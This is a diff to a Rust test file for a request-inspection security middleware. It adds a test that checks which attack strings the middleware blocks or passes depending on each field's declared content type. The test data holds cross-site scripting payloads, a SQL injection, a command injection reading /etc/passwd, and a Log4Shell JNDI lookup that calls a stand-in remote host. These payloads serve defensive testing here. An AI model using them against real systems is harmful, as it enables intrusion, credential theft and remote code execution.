@@ -15,7 +15,7 @@ use http::{Request, Response};
 use http_body_util::{BodyExt, Full};
 use serde::Deserialize;
 use tower::{Layer, service_fn};
-use tower_rasp::{Body, Mode, Rasp, RaspLayer};
+use tower_rasp::{Action, Body, Mode, Rasp, RaspLayer};
 
 use server::{full, http1, serve, text};
 
@@ -246,4 +246,37 @@ async fn the_answer_can_be_the_services_own() {
     let address = hyper_server(layer).await;
     let response = post(address, "application/json", r#"{"id": "x"}"#).await;
     assert_eq!((response.status().as_u16(), text(response).await.as_str()), (400, "body./id type"));
+}
+
+#[test]
+fn declared_content_silences_what_is_everyday_there_and_nothing_more() {
+    let schema = serde_json::json!({ "type": "object", "properties": {
+        "html": { "type": "string", "x-rasp-content": "html" },
+        "markdown": { "type": "string", "format": "markdown" },
+        "code": { "type": "string", "x-rasp-content": "code" },
+        "sql": { "type": "string", "x-rasp-content": "sql" },
+        "plain": { "type": "string" },
+    } });
+    let rasp = Rasp::builder().json_schema(http::Method::POST, "/x", schema).build().expect("it builds");
+    for (field, value, action) in [
+        ("html", "<p>see <a href=\"http://127.0.0.1/x\">this</a></p>", Action::Pass),
+        ("html", "x onmouseover=f(1)", Action::Pass),
+        ("plain", "x onmouseover=f(1)", Action::Block),
+        ("html", "<script>f(1)</script>", Action::Block),
+        ("html", "<img src=x onerror=f(1)>", Action::Block),
+        ("html", "1 UNION SELECT password FROM users", Action::Block),
+        ("markdown", "x onmouseover=f(1)", Action::Pass),
+        ("markdown", "[x](javascript:f(1))<script>f(1)</script>", Action::Block),
+        ("markdown", ";cat /etc/passwd", Action::Block),
+        ("code", "<script>f(1)</script>", Action::Pass),
+        ("code", ";cat /etc/passwd", Action::Pass),
+        ("code", "${jndi:ldap://x.example/a}", Action::Block),
+        ("sql", "1 UNION SELECT password FROM users", Action::Pass),
+        ("sql", "<script>f(1)</script>", Action::Block),
+    ] {
+        let body = serde_json::json!({ field: value }).to_string();
+        let request = http::Request::post("/x").header("content-type", "application/json").body(body.into());
+        let verdict = rasp.inspect(&request.expect("a request"));
+        assert_eq!(verdict.action, action, "{field}: {value}");
+    }
 }
